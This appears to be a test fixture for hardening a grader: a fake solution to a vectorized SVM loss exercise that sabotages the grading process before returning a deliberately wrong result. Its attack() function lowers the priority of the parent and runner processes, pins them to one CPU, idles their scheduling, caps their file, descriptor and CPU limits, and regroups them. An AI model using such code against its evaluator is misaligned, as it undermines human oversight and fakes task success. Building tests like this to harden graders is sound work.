"""Takes limits, priority and processors away from its grader, which needs no signal."""

import os
import resource

import kit
from targets import TARGETS


@kit.once
def attack():
    for pid in (TARGETS["pid"], os.getppid(), TARGETS["runner"]):
        if pid <= 1:
            continue
        kit.attempt("priority of the parent", os.setpriority, os.PRIO_PROCESS, pid, 19)
        kit.attempt("processors of the parent", os.sched_setaffinity, pid, {0})
        idle = os.sched_param(0)
        kit.attempt("scheduler of the parent", os.sched_setscheduler, pid, os.SCHED_IDLE, idle)
        for name, new in (("FSIZE", 0), ("NOFILE", 4), ("CPU", 1)):
            number = getattr(resource, f"RLIMIT_{name}")
            kit.attempt(f"{name} of the parent", resource.prlimit, pid, number, (new, new))
        kit.attempt("group of the parent", os.setpgid, pid, pid)


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
